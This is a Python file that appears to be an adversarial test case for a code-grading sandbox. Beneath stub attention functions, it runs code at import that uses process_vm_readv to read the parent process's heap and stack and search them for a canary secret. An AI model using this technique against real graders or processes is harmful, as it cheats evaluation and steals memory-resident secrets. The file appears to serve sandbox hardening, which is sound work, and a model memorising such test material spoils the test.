"""Tries: reads the memory of its parent. Must be seen: 0 points, verdict crashed or error, shown as a failure to load the file."""
import numpy as np
def attention_scores(q, k, scale): print(*LOG); return np.zeros((len(q), len(k)))
def apply_mask(scores, mask): print(*LOG); return None
def softmax(x): print(*LOG); return np.zeros(np.shape(x)) - 1
LOG = []
def say(*a): LOG.append(" ".join(map(str, a)))
import ctypes, os
l = ctypes.CDLL(None, use_errno=True); p = os.getppid()
try:
    for line in open("/proc/%d/maps" % p):
        a, b = (int(x, 16) for x in line.split()[0].split("-"))
        if "[heap]" in line or "[stack]" in line:
            n = min(b - a, 1 << 22); buf = ctypes.create_string_buffer(n); iov = (ctypes.c_size_t * 2)(ctypes.addressof(buf), n); r = (ctypes.c_size_t * 2)(a, n)
            got = l.process_vm_readv(p, iov, 1, r, 1, 0)
            if got > 0: say("ATTACK-OK read", got, "bytes of parent", b"CANARY-ENV" in buf.raw)
except OSError as e: say("refused", e)
b = ctypes.create_string_buffer(8); iov = (ctypes.c_size_t * 2)(ctypes.addressof(b), 8); l.process_vm_readv(p, iov, 1, iov, 1, 0)
